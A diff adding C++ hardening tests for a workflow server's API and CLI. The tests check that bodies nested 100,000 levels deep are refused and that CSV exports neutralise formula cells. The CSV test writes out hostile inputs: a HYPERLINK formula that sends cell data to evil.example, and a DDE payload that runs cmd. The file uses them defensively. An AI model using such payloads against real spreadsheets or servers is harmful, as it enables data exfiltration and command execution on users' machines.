@@ -1,0 +1,119 @@
+// The server against the attacks an ISMS auditor tries first (issue 17): each class of
+// attack has a test here that failed on the server before it was hardened.
+#include "api_support.h"
+
+#include "runtime/json_input.h"
+
+namespace {
+
+using nlohmann::json;
+using namespace raciflow::testing::api;
+
+std::string nested(char open, char close, int depth, const std::string& inner = "1") {
+  return std::string(static_cast<std::size_t>(depth), open) + inner + std::string(static_cast<std::size_t>(depth), close);
+}
+
+}  // namespace
+
+TEST_CASE("nesting depth counts brackets outside strings only", "[hardening]") {
+  using raciflow::runtime::nests_deeper_than;
+  using raciflow::runtime::text_nests_deeper_than;
+  CHECK_FALSE(text_nests_deeper_than(nested('[', ']', 64), 64));
+  CHECK(text_nests_deeper_than(nested('[', ']', 65), 64));
+  CHECK_FALSE(text_nests_deeper_than("{\"a\": \"" + std::string(1000, '[') + "\"}", 64));
+  CHECK_FALSE(text_nests_deeper_than("[\"\\\"[[[[\"]", 2));
+  CHECK(nests_deeper_than(json::parse(nested('[', ']', 65)), 64));
+  CHECK_FALSE(nests_deeper_than(json::parse(nested('[', ']', 64)), 64));
+}
+
+TEST_CASE("a JSON body nested 100 000 levels deep is refused with 400 and the server goes on", "[api][hardening]") {
+  Server s;
+  auto anna = s.login("anna");
+  auto [case_id, task] = start_deviation(s, anna);
+  auto before = s.w.dump();
+  const std::string deep_array = nested('[', ']', 100000);
+  std::string deep_object;
+  for (int i = 0; i < 100000; ++i) deep_object += "{\"a\":";
+  deep_object += "1" + std::string(100000, '}');
+  struct Probe {
+    const char* method;
+    std::string target;
+    std::string body;
+  };
+  const std::vector<Probe> probes = {
+      {"POST", "/api/cases", "{\"process\":\"corrective-action\",\"variables\":{\"x\":" + deep_array + "}}"},
+      {"POST", "/api/messages", "{\"name\":\"External input\",\"variables\":{\"x\":" + deep_object + "}}"},
+      {"POST", "/api/tasks/" + std::to_string(task) + "/complete", "{\"variables\":{\"x\":" + deep_array + "}}"},
+      {"POST", "/api/tasks/" + std::to_string(task) + "/consult", "{\"answer\":" + deep_array + "}"},
+      {"POST", "/api/cases/" + case_id + "/retry", "{\"variables\":" + deep_object + "}"},
+      {"PUT", "/api/plan/p1", "{\"note\":" + deep_array + "}"},
+      {"PUT", "/api/organisation", "{\"xml\":" + deep_array + "}"},
+      {"PUT", "/api/wheel", "{\"xml\":" + deep_object + "}"},
+  };
+  // Straight to the API: 200 KB bodies are beyond this test server's 64 KiB body limit.
+  for (const auto& p : probes) {
+    INFO(p.method << " " << p.target);
+    raciflow::http::HttpRequest request;
+    request.method = p.method;
+    request.target = p.target;
+    request.body = p.body;
+    request.content_type = "application/json";
+    request.cookie = anna;
+    auto r = s.api->handle(request);
+    CHECK(r.status == 400);
+    CHECK(json::parse(r.body)["message"] == "the body nests arrays and objects deeper than 64 levels");
+  }
+  // And through the server, as deep as its body limit allows.
+  auto r = s.request("POST", "/api/messages", "{\"name\":\"External input\",\"variables\":{\"x\":" + nested('[', ']', 20000) + "}}",
+                     {{"Cookie", anna}});
+  CHECK(r.status == 400);
+  CHECK(s.w.dump() == before);
+  // 64 levels, the documented limit, are taken.
+  auto ok = s.as(anna, "POST", "/api/cases", json::parse("{\"process\":\"corrective-action\",\"variables\":{\"x\":" + nested('[', ']', 62) + "}}"));
+  CHECK(ok.status == 201);
+  CHECK(s.request("GET", "/api/openapi.json").status == 200);
+}
+
+TEST_CASE("a --var value nested deeper than 64 levels is refused with one line and changes nothing", "[cli][hardening]") {
+  Server s;
+  auto before = s.w.dump();
+  auto r = s.w.cli({"start", "corrective-action", "--as", "anna", "--var", "x=" + nested('[', ']', 100000)});
+  CHECK(r.code == 1);
+  CHECK(r.err == "raciflow start: --var x nests arrays and objects deeper than 64 levels\n");
+  CHECK(s.w.dump() == before);
+  // Text that is not JSON is still a plain string, even when it starts like JSON.
+  auto text = s.w.cli({"start", "corrective-action", "--as", "anna", "--var", "note=[see the ticket"});
+  CHECK(text.code == 0);
+}
+
+TEST_CASE("CSV exports neutralise cells that a spreadsheet would run as formulas", "[api][cli][hardening]") {
+  Server s;
+  // Anyone can put a person name of their choosing into the trail by failing to log in.
+  for (const char* name : {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4", "\tx", "\rx"})
+    CHECK(s.request("POST", "/api/login", json{{"person", name}, {"password", "not-the-password"}}.dump()).status == 401);
+  auto ida = s.login("ida");
+  auto api_csv = s.as(ida, "GET", "/api/audit?format=csv").body;
+  auto cli_csv = s.w.cli({"audit", "all", "--format", "csv"}).out;
+  for (const auto& csv : {api_csv, cli_csv}) {
+    CHECK(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",") != std::string::npos);
+    CHECK(csv.find(",'@SUM(1+1)*cmd|' /C calc'!A0,") != std::string::npos);
+    CHECK(csv.find(",'+1+2,") != std::string::npos);
+    CHECK(csv.find(",'-3+4,") != std::string::npos);
+    CHECK(csv.find(",'\tx,") != std::string::npos);
+    CHECK(csv.find(",\"'\rx\",") != std::string::npos);
+    // No cell starts with a formula character: after each separator comes something else.
+    for (const char* bad : {",=", ",@", ",+", ",\"=", ",\"@", ",\"+", ",\"-"}) CHECK(csv.find(bad) == std::string::npos);
+  }
+  // The RACI matrix's CSV too: a step named like a formula.
+  s.w.write("formula.bpmn", R"(<?xml version="1.0" encoding="UTF-8"?>
+<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:raci="urn:raciflow:1" targetNamespace="t">
+  <process id="f" isExecutable="true">
+    <laneSet><lane id="l" raci:role="security-function"><flowNodeRef>s</flowNodeRef><flowNodeRef>t</flowNodeRef><flowNodeRef>e</flowNodeRef></lane></laneSet>
+    <startEvent id="s"/><sequenceFlow id="f1" sourceRef="s" targetRef="t"/>
+    <userTask id="t" name="=1+1"/><sequenceFlow id="f2" sourceRef="t" targetRef="e"/><endEvent id="e"/>
+  </process>
+</definitions>)");
+  auto raci = s.w.cli({"raci", s.w.path("formula.bpmn"), "--format", "csv"});
+  INFO(raci.err);
+  CHECK(raci.out.find("t,'=1+1,") != std::string::npos);
+}
